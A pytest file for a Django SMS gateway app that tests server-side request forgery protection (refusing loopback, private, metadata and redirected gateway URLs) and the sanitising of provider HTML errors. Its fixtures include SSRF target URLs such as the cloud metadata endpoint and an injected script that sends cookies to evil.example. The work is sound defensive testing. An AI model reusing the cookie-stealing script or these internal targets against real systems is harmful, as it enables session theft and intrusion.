"""Gateway URLs cannot reach internal addresses (server-side request forgery), and a provider's answer
reaches a project only as a short, plain excerpt.

Checked twice, as casemsg.core.netguard explains: when a gateway is added (the API and the CLI, through
gateways.services) and when a message is sent (gateways.transport's guarded session), so a gateway stored
while internal addresses were allowed, a name that rebinds, or a provider that redirects inward is still
refused. The send-time tests go through the real pipeline: queued through the API, delivered by the
worker's own function, against fake providers on loopback addresses."""

from __future__ import annotations

import json

import pytest
from django.core.management import CommandError, call_command
from django.test import override_settings

from casemsg.core import errors, netguard
from casemsg.gateways import transport
from casemsg.gateways.base import OutboundSms, classify_exception
from casemsg.gateways.models import Gateway
from casemsg.gateways.services import add_gateway, map_prefix, set_config
from casemsg.messaging.models import Message
from fakes.gateways import Rule
from tests.conftest import can_bind
from tests.messaging.conftest import KE, deliver, msg, send

pytestmark = pytest.mark.django_db

deny_private = override_settings(CASEMSG_GATEWAY_ALLOW_PRIVATE=False)

INTERNAL = [
    ("http://127.0.0.1:8000/send", "127.0.0.1", "loopback"),
    ("http://10.0.0.1/send", "10.0.0.1", "private-network"),
    ("http://169.254.169.254/latest/meta-data/", "169.254.169.254", "cloud metadata"),
    ("http://[::1]:8000/send", "::1", "loopback"),
    ("http://localhost:8000/send", "localhost", "loopback"),
    ("http://0x7f.1/send", "127.0.0.1", "loopback"),  # a legacy numeric form of 127.0.0.1
]
PUBLIC = "http://93.184.216.34/send"  # a public literal: only its creation is checked, nothing is sent


def gateway_body(url: str, name: str = "agg") -> dict:
    return {"name": name, "type": "http", "config": {"url": url}}


def assert_refused(r, host: str, why: str) -> None:
    assert r.status_code == 422, r.content
    error = r.json()["error"]
    assert error["code"] == errors.GATEWAY_URL_NOT_ALLOWED
    assert host.strip("[]") in error["message"] and why in error["message"]
    assert "CASEMSG_GATEWAY_ALLOW_PRIVATE" in error["message"] or why == "cloud metadata"


# --- when a gateway is added -----------------------------------------------------------------------
@deny_private
@pytest.mark.parametrize(("url", "address", "why"), INTERNAL)
def test_api_refuses_internal_gateway_urls(api, url, address, why):
    r = api.post("gateways", gateway_body(url))
    assert_refused(r, address, why)
    assert not Gateway.objects.exists()


@deny_private
@pytest.mark.parametrize(("url", "address", "why"), INTERNAL)
def test_cli_refuses_internal_gateway_urls(url, address, why):
    with pytest.raises(CommandError) as exc:
        call_command("gateway", "add", "agg", "--type", "http", "--config", json.dumps({"url": url}))
    assert str(exc.value).startswith(errors.GATEWAY_URL_NOT_ALLOWED + ":")
    assert address in str(exc.value) and why in str(exc.value)
    assert not Gateway.objects.exists()


@deny_private
@pytest.mark.parametrize(
    ("type_name", "config"),
    [
        ("twilio", {"account_sid": "AC1", "auth_token": "t", "from_number": "+15550001111"}),
        ("telerivet", {"api_key": "k", "project_id": "PJ1"}),
        ("africastalking", {"username": "sandbox", "api_key": "k"}),
    ],
)
def test_base_url_of_every_provider_type_is_checked(api, type_name, config):
    r = api.post("gateways", {"name": "p", "type": type_name, "config": {**config, "base_url": "http://192.168.1.1"}})
    assert_refused(r, "192.168.1.1", "private-network")
    assert api.post("gateways", {"name": "p", "type": type_name, "config": config}).status_code == 201


@deny_private
def test_a_public_address_is_accepted(api):
    r = api.post("gateways", gateway_body(PUBLIC))
    assert r.status_code == 201, r.content
    assert Gateway.objects.get(name="agg").config["url"] == PUBLIC


def test_internal_addresses_pass_when_the_installation_allows_them_but_metadata_never(api):
    assert api.post("gateways", gateway_body("http://10.0.0.1/send")).status_code == 201  # the pytest default
    r = api.post("gateways", gateway_body("http://169.254.169.254/", name="meta"))
    assert_refused(r, "169.254.169.254", "cloud metadata")


@deny_private
def test_changing_a_config_is_checked_too():
    gw = add_gateway("agg", "http", {"url": PUBLIC})
    with pytest.raises(errors.InputError) as exc:
        set_config(gw, {"url": "http://127.0.0.1/"})
    assert exc.value.code == errors.GATEWAY_URL_NOT_ALLOWED
    gw.refresh_from_db()
    assert gw.config["url"] == PUBLIC


# --- when a message is sent ------------------------------------------------------------------------
def blocked_at_send(m: Message, address: str) -> None:
    assert (m.status, m.error) == (Message.FAILED, errors.GATEWAY_URL_NOT_ALLOWED), (m.status, m.error_detail)
    assert m.attempts == 1  # failed at the first attempt, not retried
    assert address in m.error_detail


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_gateway_stored_earlier_with_an_internal_url_fails_at_send_time(api, fake_http, host):
    # stored while the installation allowed internal addresses (the pytest default)
    config = fake_http.gateway_config()
    config["url"] = config["url"].replace("127.0.0.1", host)
    add_gateway("agg", "http", config)
    map_prefix("*", "agg")
    case = api.case({"contact_phone_number": KE})
    with deny_private:
        data = send(api, case["case_id"])
        deliver()
    m = msg(data)
    blocked_at_send(m, host)
    assert "CASEMSG_GATEWAY_ALLOW_PRIVATE=1" in m.error_detail
    assert fake_http.requests() == []  # the fake provider on 127.0.0.1 received nothing
    shown = api.get(f"messages/{m.pk}").json()["error"]
    assert shown["code"] == errors.GATEWAY_URL_NOT_ALLOWED and shown["detail"] == m.error_detail
    with deny_private:
        deliver()  # a permanent failure: nothing is tried again
    assert fake_http.requests() == [] and msg(data).attempts == 1


@pytest.fixture
def redirecting(fake_gateway, monkeypatch):
    """A "public" provider (127.0.0.1, made public by the guard's injectable predicate) that redirects every
    send to an internal one (127.0.0.2, internal by the real policy)."""
    if not can_bind("127.0.0.2"):
        pytest.skip("this system cannot bind 127.0.0.2")
    inner = fake_gateway("http", host="127.0.0.2")
    outer = fake_gateway("http")
    outer.add_rule(Rule(times=None, redirect=inner.url + "/send"))
    monkeypatch.setattr(
        transport, "BLOCKED_CHECK", lambda ip: None if ip == "127.0.0.1" else netguard.is_blocked_ip(ip)
    )
    add_gateway("agg", "http", outer.gateway_config())
    map_prefix("*", "agg")
    return outer, inner


def test_a_redirect_to_an_internal_address_is_refused(api, redirecting):
    outer, inner = redirecting
    case = api.case({"contact_phone_number": KE})
    with deny_private:
        data = send(api, case["case_id"])
        deliver()
    m = msg(data)
    blocked_at_send(m, "127.0.0.2")
    assert "redirect" in m.error_detail
    assert len(outer.requests()) == 1  # the public provider was asked …
    assert inner.requests() == []  # … and its redirect inward was not followed


def test_the_same_redirect_is_followed_when_internal_addresses_are_allowed(api, redirecting):
    """The control: the redirect really leads to the inner server when the policy lets it."""
    outer, inner = redirecting
    case = api.case({"contact_phone_number": KE})
    data = send(api, case["case_id"])
    deliver()
    assert msg(data).status == Message.SENT
    assert [r.to for r in inner.requests()] == [KE]


def test_a_refusal_is_permanent_not_transient():
    refused = netguard.BlockedConnection("Gateway URL host 'x' is a loopback address", host="x", kind="loopback")
    r = classify_exception(5, refused)
    assert (r.status, r.error) == ("failed", errors.GATEWAY_URL_NOT_ALLOWED)
    assert classify_exception(5, OSError("connection refused")).status == "retry"
    assert OutboundSms(5, KE, "x").message_id == 5


# --- what a project sees of a provider's answer ----------------------------------------------------
HTML_ERROR = (
    "<html><head><title>400 Bad Request</title><style>body{color:red}</style>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script></head><body>"
    + "<p>Bad request &amp; <b>more</b></p>" * 300
    + "</body></html>"
)


@pytest.mark.parametrize(("status", "outcome"), [(400, Message.FAILED), (503, Message.QUEUED)])
def test_a_providers_html_answer_is_shown_as_a_short_plain_excerpt(api, fake_http, status, outcome):
    assert len(HTML_ERROR) > 10_000
    add_gateway("agg", "http", fake_http.gateway_config())
    map_prefix("*", "agg")
    fake_http.add_rule(Rule(status=status, body=HTML_ERROR))
    case = api.case({"contact_phone_number": KE})
    data = send(api, case["case_id"])
    deliver()
    m = msg(data)
    assert m.status == outcome
    detail = m.error_detail
    assert detail.startswith(f"HTTP {status}: 400 Bad Request")
    assert len(detail) <= 200
    assert "<" not in detail and ">" not in detail and "script" not in detail and "cookie" not in detail
    assert "Bad request & more" in detail
    if outcome == Message.FAILED:
        assert api.get(f"messages/{m.pk}").json()["error"]["detail"] == detail
